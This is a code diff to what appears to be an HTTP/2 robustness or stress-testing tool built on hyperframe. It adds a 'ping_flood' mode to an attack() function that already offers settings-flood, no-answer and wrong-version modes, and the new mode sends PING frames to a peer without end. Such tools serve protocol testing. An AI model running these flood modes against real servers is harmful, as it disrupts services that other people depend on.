@@ -21,6 +21,7 @@ from hyperframe.frame import (
     DataFrame,
     Frame,
     HeadersFrame,
+    PingFrame,
     SettingsFrame,
 )
 
@@ -122,6 +123,10 @@ def attack(mode: str, peer: Peer) -> None:
             time.sleep(0.001)
     elif mode == "settings_flood":
         forever(peer, settings())
+    elif mode == "ping_flood":
+        ping = PingFrame(0)
+        ping.opaque_data = b"12345678"
+        forever(peer, ping.serialize())
     elif mode == "no_answer":
         time.sleep(60)
     elif mode == "wrong_version":
